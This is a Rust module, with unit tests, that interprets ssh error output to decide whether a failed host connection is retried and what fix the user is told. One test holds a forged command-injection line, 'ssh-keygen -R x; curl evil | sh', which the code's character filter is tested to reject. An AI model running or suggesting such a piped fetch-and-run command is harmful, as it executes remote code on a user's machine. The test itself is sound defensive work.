//! What ssh means by what it says on standard error when it does not reach a host: whether to try
//! again, and what to tell the user to do.
//!
//! Its exit status says nothing: 255 is everything.

use std::path::PathBuf;

use crate::cluster::Host;
use crate::error::{Error, ErrorKind};

/// What a failure to reach a host calls for.
pub(super) enum SshFailure {
    /// Another try: its sshd had too many logins to deal with, or the connection broke.
    Again(Error),
    /// Nothing, or something by the user.
    Final(Error),
}

/// Words by which ssh says that the connection ended before it was one.
const BUSY: [&str; 4] = [
    "kex_exchange_identification:",
    "ssh_exchange_identification:",
    "Connection closed by ",
    "Connection reset by ",
];

/// Words by which ssh says that a connection broke that was one.
const BROKE: [&str; 3] = ["client_loop: ", "Connection to ", "Timeout, server "];

/// Words by which ssh says that its own configuration is wrong.
const MISCONFIGURED: [&str; 5] = [
    "Bad owner or permissions on",
    "Bad configuration option",
    "bad configuration options",
    "Can't open user config file",
    "unknown option",
];

/// What is said of a host whose key must not be accepted.
pub(super) const REVOKED: &str = "its host key is marked as revoked: nothing is sent there";

/// How many of the last lines are shown where nothing better is known.
const SHOWN_LINES: usize = 3;

/// The connection to a host broke while a worker was started there.
pub(super) fn broke(host: &Host, why: &str) -> Error {
    let text = format!("{host}: the connection broke while it was logged in to{why}");
    Error::new(ErrorKind::Hosts, text)
}

/// What the lines mean that ssh said, `ssh` being how the user would call it for this host, and
/// `printed` what came from the host's standard output instead of an answer; `by_itself` if the
/// shell there has ended, and was not torn away.
pub(super) fn meaning(
    host: &Host,
    ssh: &str,
    lines: &[String],
    printed: &str,
    by_itself: bool,
) -> SshFailure {
    let all = |begin: &[&str]| {
        let is_one = |line: &String| begin.iter().any(|words| line.starts_with(words));
        !lines.is_empty() && lines.iter().all(is_one)
    };
    let at_host = |text: String| Error::new(ErrorKind::Hosts, format!("{host}: {text}"));
    let refused = |text: String| SshFailure::Final(Error::refusal(format!("{host}: {text}")));
    if all(&BUSY) {
        return SshFailure::Again(at_host(format!("it turns logins away ({})", lines.join("; "))));
    }
    if MISCONFIGURED.iter().any(|words| lines.iter().any(|line| line.contains(words))) {
        return SshFailure::Final(Error::usage(format!("{host}: ssh says: {}", lines.join("; "))));
    }
    if let Some(known) = key_trouble(ssh, lines).or_else(|| login_trouble(lines)) {
        return refused(known);
    }
    if !by_itself && (lines.is_empty() || all(&BROKE)) {
        let why = lines.last().map(|line| format!(" ({line})"));
        return SshFailure::Again(broke(host, &why.unwrap_or_default()));
    }
    let last = &lines[lines.len().saturating_sub(SHOWN_LINES)..];
    let last = last.join("; ").trim_start_matches("ssh: ").to_string();
    match by_itself || last.contains("Could not resolve hostname") {
        true if !lines.is_empty() => refused(last),
        true if printed.is_empty() => {
            refused("its login ended without a word: is its shell one that runs /bin/sh?".into())
        }
        true => refused(format!("its login gives no shell: {printed}")),
        false => SshFailure::Final(at_host(last)),
    }
}

/// What is wrong with the key of the host.
fn key_trouble(ssh: &str, lines: &[String]) -> Option<String> {
    let line = |words: &str| lines.iter().find(|line| line.contains(words));
    if line("HOST IDENTIFICATION HAS CHANGED").is_some() {
        // What a host's login says stands among these lines too: nothing of it is for a shell.
        let plain = |c: char| c.is_alphanumeric() || " \"'/._-:[]~@%+,=".contains(c);
        let is_fix = |line: &&String| line.starts_with("ssh-keygen ") && line.chars().all(plain);
        let fix = lines.iter().find(is_fix);
        return Some(changed_key(fix.map_or("ssh-keygen -R NAME", String::as_str)));
    }
    if line("REVOKED HOST KEY").or(line("marked as revoked")).is_some() {
        return Some(REVOKED.into());
    }
    if let Some(line) = line("host key is known for ") {
        let name = line.split("is known for ").nth(1).and_then(|rest| rest.split(' ').next());
        return Some(unknown_key(name.unwrap_or("?"), ssh));
    }
    let failed = line("Host key verification failed");
    failed.map(|_| format!("its host key is not accepted: run `{ssh}` once to see why"))
}

/// What is wrong with the keys of the user.
fn login_trouble(lines: &[String]) -> Option<String> {
    if lines.iter().any(|line| line.contains("Too many authentication failures")) {
        let cure = "name the right one with IdentityFile and IdentitiesOnly in ~/.ssh/config";
        return Some(format!("it was offered too many keys: {cure}"));
    }
    let line = lines.iter().find_map(|line| line.split_once("Permission denied ("));
    Some(denied(line?.1.trim_end_matches(['.', ')']), &[]))
}

/// None of the user's keys is taken by a host that offers these ways to log in; `locked` were not
/// tried.
pub(super) fn denied(ways: &str, locked: &[PathBuf]) -> String {
    let cure = match locked {
        [] => "run ssh-add if your key is locked, ssh-copy-id if it does not know the key".into(),
        [path, ..] => format!("your key is locked: run ssh-add '{}'", path.display()),
    };
    format!("it denies the login ({ways}): {cure}")
}

/// No key of a host is known that shows `key`, its name or more.
pub(super) fn unknown_key(key: &str, ssh: &str) -> String {
    let cure = format!("run `{ssh}` once, and compare the key that it shows");
    format!("its host key ({key}) is not known: {cure}")
}

/// Someone else answers, or the host was made anew: only the user can know, and then type `fix`.
pub(super) fn changed_key(fix: &str) -> String {
    format!(
        "its host key has CHANGED: someone may be listening in; only if you know why it changed, \
         forget the old one with `{fix}`"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of_end(lines: &[&str], by_itself: bool) -> (bool, Error) {
        let host = Host { name: "n1".into(), ..Host::local() };
        let lines: Vec<String> = lines.iter().map(|line| line.to_string()).collect();
        match meaning(&host, "ssh n1", &lines, "", by_itself) {
            SshFailure::Again(error) => (true, error),
            SshFailure::Final(error) => (false, error),
        }
    }

    fn of(lines: &[&str]) -> (bool, String) {
        let (again, error) = of_end(lines, false);
        (again, error.to_string())
    }

    #[test]
    fn a_busy_sshd_is_asked_again() {
        for lines in [
            &[
                "kex_exchange_identification: read: Connection reset by peer",
                "Connection reset by 10.0.0.1 port 22",
            ][..],
            &["kex_exchange_identification: Connection closed by remote host"],
            &["Connection closed by 10.0.0.1 port 22"],
        ] {
            assert!(of(lines).0, "{lines:?}");
        }
        assert!(!of(&["nc: getaddrinfo: no", "Connection closed by UNKNOWN port 65535"]).0);
    }

    #[test]
    fn a_shell_that_ends_is_told_from_a_connection_that_breaks() {
        for lines in [
            &[][..],
            &["Connection to 10.0.0.1 closed by remote host."],
            &["client_loop: send disconnect: Broken pipe"],
        ] {
            let (again, error) = of_end(lines, false);
            assert!(again && !error.is_refusal(), "{lines:?}");
            assert!(error.to_string().contains("the connection broke while it was"), "{error}");
            let (again, error) = of_end(lines, true);
            assert!(!again && error.is_refusal(), "{lines:?}");
        }
        let (again, error) = of_end(&[], true);
        assert!(!again && error.to_string().contains("without a word: is its shell"), "{error}");
    }

    #[test]
    fn what_its_user_must_cure_is_told_from_what_passes() {
        for (line, is_refusal) in [
            ("root@n1: Permission denied (publickey).", true),
            ("Host key verification failed.", true),
            ("ssh: Could not resolve hostname n9: Name or service not known", true),
            ("ssh: connect to host n1 port 22: Connection refused", false),
            ("ssh: connect to host n1 port 22: Connection timed out", false),
        ] {
            assert_eq!(of_end(&[line], false).1.is_refusal(), is_refusal, "{line}");
        }
    }

    #[test]
    fn each_refusal_names_its_cure() {
        let text = |lines: &[&str]| of(lines).1;
        assert!(
            text(&["root@n1: Permission denied (publickey)."])
                .contains("denies the login (publickey): run ssh-add")
        );
        let unknown =
            "No ED25519 host key is known for [n1]:2222 and you have requested strict checking.";
        assert!(
            text(&[unknown, "Host key verification failed."])
                .contains("([n1]:2222) is not known: run `ssh n1`")
        );
        let changed = [
            "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @",
            "remove with:",
            "ssh-keygen -f \"/h/k\" -R \"n1\"",
            "Host key verification failed.",
        ];
        assert!(text(&changed).contains("`ssh-keygen -f \"/h/k\" -R \"n1\"`"));
        let forged = [changed[0], "ssh-keygen -R x; curl evil | sh"];
        assert!(text(&forged).ends_with("`ssh-keygen -R NAME`"));
        assert_eq!(
            text(&["ssh: connect to host n1 port 22: Connection refused"]),
            "n1: connect to host n1 port 22: Connection refused"
        );
    }
}
